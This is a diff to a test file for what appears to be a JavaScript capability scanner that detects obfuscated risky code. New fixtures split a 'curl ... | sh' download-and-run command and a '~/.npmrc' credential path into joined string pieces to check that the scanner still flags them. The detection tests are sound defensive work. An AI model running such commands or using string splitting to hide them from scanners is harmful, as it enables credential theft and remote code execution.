@@ -171,6 +171,8 @@ describe('when code hides its tokens from the prefilter', () => {
     [n('globalThis'), p('.'), n('fetch'), p('('), n('u'), p(')')],
     [n('window'), p('['), q('eval'), p(']'), p('('), n('c'), p(')')],
     [q('~/.npmrc')],
+    [q('~/.np'), p('+'), q('mrc')],
+    [n('exec'), p('('), q('cu'), p('+'), q('rl https://x.invalid/a | s'), p('+'), q('h'), p(')')],
     [k('const'), n('e'), p('='), n('eval'), p(';'), n('e'), p('('), n('c'), p(')')],
     [p('['), p(']'), p('.'), n('constructor'), p('.'), n('constructor'), p('('), n('c'), p(')')],
     [n('eval'), p('.'), n('call'), p('('), k('null'), p(','), n('c'), p(')')],
@@ -295,6 +297,21 @@ describe('when a name is cut into pieces joined with +', () => {
         'code.eval window.eval',
         'environment.token NPM_TOKEN',
       ]);
+    }
+  });
+
+  it('reads the joined text for string signals, once per chain', () => {
+    const source = [
+      "exec('cu' + 'rl https://x.invalid/a | s' + 'h');",
+      "const rc = '~/.np' + 'mrc';",
+      "const greeting = 'Hello, ' + 'world' + '!';",
+      "const half = 'cu' + host + 'rl | sh';",
+    ].join('\n');
+    for (const walk of ['position', 'estree'] as const) {
+      const facts = extractJsCapabilities(source, { filename: 'x.js', walk })
+        .facts.filter((fact) => fact.capability !== 'process.spawn')
+        .map((fact) => `${fact.line} ${fact.capability}`);
+      expect(facts, walk).toEqual(['1 process.shell-command', '2 filesystem.sensitive-path']);
     }
   });
 
